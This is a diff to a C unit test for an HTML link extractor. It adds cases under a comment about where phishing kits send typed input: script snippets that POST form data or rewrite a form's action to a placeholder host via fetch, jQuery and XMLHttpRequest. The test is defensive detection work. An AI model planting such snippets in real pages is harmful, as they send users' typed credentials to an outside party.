@@ -426,6 +426,17 @@ test_links_come_with_what_the_reader_sees(void **state)
 		    "http://a.jp/", "", URL_SCRIPT },
 		{ "<script>document.forms[0].action='http://a.jp/'</script>",
 		    "http://a.jp/", "", URL_SCRIPT },
+		/* where kits send what is typed: once no link at all */
+		{ "<script>fetch('http://a.jp/',{method:'POST'})</script>",
+		    "http://a.jp/", "", URL_SCRIPT },
+		{ "<script>$.ajax({type:'POST',url : \"http://a.jp/\"})"
+		    "</script>", "http://a.jp/", "", URL_SCRIPT },
+		{ "<script>$.post( 'http://a.jp/', d)</script>",
+		    "http://a.jp/", "", URL_SCRIPT },
+		{ "<script>x.open( 'POST' , 'http://a.jp/', true)</script>",
+		    "http://a.jp/", "", URL_SCRIPT },
+		{ "<script>var u='http://a.jp/';f.setAttribute(\"action\",u)"
+		    "</script>", "http://a.jp/", "", URL_SCRIPT },
 		{ "<b x='\"' y=z><a/href='http://a.jp/'>t</a>",
 		    "http://a.jp/", "t", URL_A },
 		{ "<a href='http://a.jp/' href='http://b.jp/'>t</a>",
